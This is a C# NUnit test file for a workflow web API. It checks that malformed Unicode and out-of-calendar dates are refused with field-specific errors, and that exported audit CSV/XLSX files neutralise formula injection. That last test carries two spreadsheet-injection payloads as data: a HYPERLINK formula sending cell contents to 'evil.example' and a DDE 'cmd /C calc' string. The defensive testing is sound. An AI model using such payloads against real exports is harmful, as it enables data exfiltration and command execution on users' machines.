using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using PdsWorkflow.Workflows.Persistence;
using static PdsWorkflow.Host.Tests.Http;

namespace PdsWorkflow.Host.Tests;

/// <summary>
/// Input that used to answer 500 (issue #14): a lone UTF-16 surrogate in a JSON string, and dates no calendar can
/// count. Each is a 400 naming the field, and nothing is written.
/// </summary>
[TestFixture(DatabaseProvider.Sqlite)]
[TestFixture(DatabaseProvider.PostgreSql)]
public sealed class InputValidationTests(DatabaseProvider provider)
{
    private HostFactory _factory = null!;
    private ApiSessions _sessions = null!;
    private RowCounter _rows = null!;

    [OneTimeSetUp]
    public async Task StartAsync()
    {
        _factory = await HostFactory.StartAsync(provider, seedDemo: true);
        _sessions = new ApiSessions(_factory);
        _rows = new RowCounter(_factory.Services);
    }

    [OneTimeTearDown]
    public async Task StopAsync()
    {
        _sessions.Dispose();
        await _factory.DisposeAsync();
    }

    [TestCase("\\ud800", TestName = "A lone high surrogate")]
    [TestCase("\\udc00", TestName = "A lone low surrogate")]
    [TestCase("\\udc00\\ud800", TestName = "Surrogates in the wrong order")]
    [TestCase("ok\\ud83d", TestName = "A high surrogate at the end")]
    public async Task A_lone_surrogate_in_a_form_value_is_refused_on_create_save_and_submit_and_writes_nothing(string escape)
    {
        var applicant = await _sessions.AsAsync("mzj.contact");
        var created = await applicant.PostAsJsonAsync(Url("/api/applications"), new { definitionId = "account-platform" });
        var id = (await created.JsonAsync())["instanceId"]!.GetValue<Guid>();
        var before = await _rows.CountAsync();

        var create = await Send(applicant, HttpMethod.Post, "/api/applications", $$$"""{"definitionId":"account-platform","form":{"reason":"申请{{{escape}}}理由"}}""");
        var save = await Send(applicant, HttpMethod.Put, $"/api/applications/{id}/draft", $$$"""{"form":{"contacts":[{"name":"a"},{"name":"x{{{escape}}}"}]}}""");
        var submit = await Send(applicant, HttpMethod.Post, $"/api/applications/{id}/submit", $$$"""{"form":{"reason":"x"},"comment":"{{{escape}}}"}""");
        var key = await Send(applicant, HttpMethod.Post, $"/api/applications/{id}/submit", $$$"""{"form":{"{{{escape}}}":"x"}}""");

        await AssertFieldAsync(create, "form.reason");
        await AssertFieldAsync(save, "form.contacts[1].name");
        await AssertFieldAsync(submit, "comment");
        await AssertFieldAsync(key, "form.?");
        Assert.That(RowCounter.Diff(before, await _rows.CountAsync()), Is.Empty, "no draft, no journal entry, nothing");
    }

    [Test]
    public async Task A_well_formed_surrogate_pair_is_kept()
    {
        var applicant = await _sessions.AsAsync("mzj.contact");

        var created = await Send(applicant, HttpMethod.Post, "/api/applications", """{"definitionId":"account-platform","form":{"reason":"申请理由\ud842\udfb7（𠮷）"}}""");

        Assert.That(created.StatusCode, Is.EqualTo(HttpStatusCode.Created), await created.Content.ReadAsStringAsync());
        Assert.That((await created.JsonAsync())["form"]!["reason"]!.GetValue<string>(), Is.EqualTo("申请理由𠮷（𠮷）"));
    }

    [TestCase("0001-01-01", "0001-12-31", "from")]
    [TestCase("2026-01-01", "9999-12-31", "to")]
    [TestCase("1999-12-31", "2000-01-31", "from")]
    public async Task Statistics_of_a_period_outside_the_calendar_are_refused_with_the_field(string from, string to, string field)
    {
        var admin = await _sessions.AsAsync("bureau.admin");

        var answer = await admin.GetAsync(Url($"/api/statistics/exchange?from={from}&to={to}"));

        await AssertFieldAsync(answer, field, "invalid_date");
    }

    [TestCase("0001-01-01T00:00:00%2B08:00", null, "from")]
    [TestCase(null, "9999-12-31T23:59:59-08:00", "to")]
    [TestCase("2026-02-01T00:00:00%2B08:00", "2026-01-01T00:00:00%2B08:00", "to")]
    public async Task An_audit_search_outside_the_calendar_or_backwards_is_refused_with_the_field(string? from, string? to, string field)
    {
        var auditor = await _sessions.AsAsync("bureau.auditor");
        var query = string.Join("&", new[] { from is null ? null : $"from={from}", to is null ? null : $"to={to}" }.OfType<string>());

        var answer = await auditor.GetAsync(Url($"/api/audit/instances?{query}"));

        await AssertFieldAsync(answer, field, "invalid_search");
    }

    [TestCase("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")")]
    [TestCase("  @SUM(1+1)*cmd|' /C calc'!A0")]
    public async Task A_comment_a_spreadsheet_would_run_is_exported_as_text_in_the_audit_csv_and_xlsx(string comment)
    {
        var (caseId, taskId) = await _sessions.DemoCaseAsync("DEMO-SUB-001");
        var commented = await (await _sessions.AsAsync("gaj.approver")).PostAsJsonAsync(Url($"/api/tasks/{taskId}/comment"), new { comment });
        Assert.That(commented.StatusCode, Is.EqualTo(HttpStatusCode.OK), await commented.Content.ReadAsStringAsync());
        var auditor = await _sessions.AsAsync("bureau.auditor");

        var csv = await (await auditor.GetAsync(Url($"/api/audit/instances/{caseId}/export?format=csv"))).Content.ReadAsStringAsync();
        var xlsx = await auditor.GetAsync(Url($"/api/audit/instances/{caseId}/export?format=xlsx"));
        var sheet = PdsWorkflow.Tests.Support.Spreadsheets.ReadSheet(await xlsx.Content.ReadAsByteArrayAsync(), "审计记录");

        var quoted = "'" + comment.Replace("\"", "\"\"", StringComparison.Ordinal);
        Assert.That(csv, Does.Contain("," + quoted + ",").Or.Contain(",\"" + quoted + "\","));
        Assert.That(csv, Does.Not.Contain("," + comment.TrimStart()));
        Assert.That(xlsx.Content.Headers.ContentType!.MediaType, Is.EqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"));
        Assert.That(sheet.SelectMany(row => row), Does.Contain("'" + comment).And.Not.Contain(comment));
    }

    private static async Task<HttpResponseMessage> Send(HttpClient client, HttpMethod method, string url, string json)
    {
        using var request = new HttpRequestMessage(method, Url(url)) { Content = new StringContent(json, Encoding.UTF8, "application/json") };
        return await client.SendAsync(request);
    }

    private static async Task AssertFieldAsync(HttpResponseMessage response, string field, string code = "invalid_text")
    {
        var body = await response.Content.ReadAsStringAsync();
        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest), body);
        var problem = JsonNode.Parse(body)!.AsObject();
        Assert.That(problem["code"]!.GetValue<string>(), Is.EqualTo(code));
        Assert.That(problem["errors"]![field]![0]!.GetValue<string>(), Does.Match(ProblemShape.Chinese()), body);
    }
}
